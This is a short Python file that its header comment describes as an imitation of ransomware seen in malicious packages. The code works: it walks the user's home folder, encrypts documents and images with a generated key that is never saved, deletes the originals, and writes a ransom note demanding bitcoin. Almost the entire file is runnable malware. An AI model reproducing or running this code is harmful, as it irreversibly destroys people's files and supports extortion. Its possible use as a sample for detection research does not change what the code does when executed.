# Imitates Python ransomware seen in malicious packages: encrypt documents under the home folder, delete originals, leave a note.
import os
from pathlib import Path

from cryptography.fernet import Fernet

NOTE = "Your files have been encrypted. Send 0.05 bitcoin to the address below to get the decryption key."
EXTENSIONS = (".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt")


def encrypt_file(path, fernet):
    data = path.read_bytes()
    path.with_suffix(path.suffix + ".locked").write_bytes(fernet.encrypt(data))
    os.remove(path)


def lock():
    fernet = Fernet(Fernet.generate_key())
    for path in Path.home().rglob("*"):
        if path.is_file() and path.suffix.lower() in EXTENSIONS:
            encrypt_file(path, fernet)
    (Path.home() / "README_DECRYPT.txt").write_text(NOTE)
